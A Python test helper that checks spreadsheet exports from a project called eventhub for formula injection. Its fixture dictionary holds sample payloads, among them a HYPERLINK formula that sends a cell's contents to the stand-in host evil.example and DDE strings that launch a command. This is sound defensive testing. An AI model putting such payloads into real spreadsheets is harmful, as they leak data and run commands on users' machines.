"""Checks that a CSV or Excel file eventhub wrote holds no cell a spreadsheet would run."""

from __future__ import annotations

import csv
import io

from openpyxl import load_workbook

from eventhub.spreadsheets import FORMULA_STARTS

#: Text that would be a formula, one for each character that starts one.
FORMULAS = {
    "=": '=HYPERLINK("http://evil.example/?leak="&A2,"詳細")',
    "+": "+1+cmd|' /C calc'!A0",
    "-": "-2+3+cmd|' /C calc'!A0",
    "@": "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t": "\t=1+1",
    "\r": "\r=1+1",
}


def csv_cells(body: bytes) -> list[str]:
    text = body.decode("utf-8-sig")
    return [cell for row in csv.reader(io.StringIO(text, newline="")) for cell in row]


def xlsx_cells(body: bytes) -> list[tuple[object, str]]:
    """(value, data_type) of every cell of every sheet."""
    book = load_workbook(io.BytesIO(body))
    return [
        (cell.value, cell.data_type) for sheet in book for row in sheet.iter_rows() for cell in row
    ]


def _number(cell: str) -> bool:
    try:
        float(cell)
    except ValueError:
        return False
    return True


def assert_csv_safe(body: bytes) -> list[str]:
    """Every cell that would start a formula is a plain number, such as -5."""
    cells = csv_cells(body)
    assert [c for c in cells if c.startswith(FORMULA_STARTS) and not _number(c)] == []
    return cells


def assert_xlsx_safe(body: bytes) -> list[tuple[object, str]]:
    cells = xlsx_cells(body)
    assert [c for c in cells if c[1] == "f"] == []
    assert [c for c in cells if isinstance(c[0], str) and c[0].startswith(FORMULA_STARTS)] == []
    return cells


def neutralised(text: str) -> str:
    return "'" + text


def neutralised_in_xlsx(text: str) -> str:
    # XML readers turn a stored carriage return into a line feed.
    return neutralised(text).replace("\r", "\n")
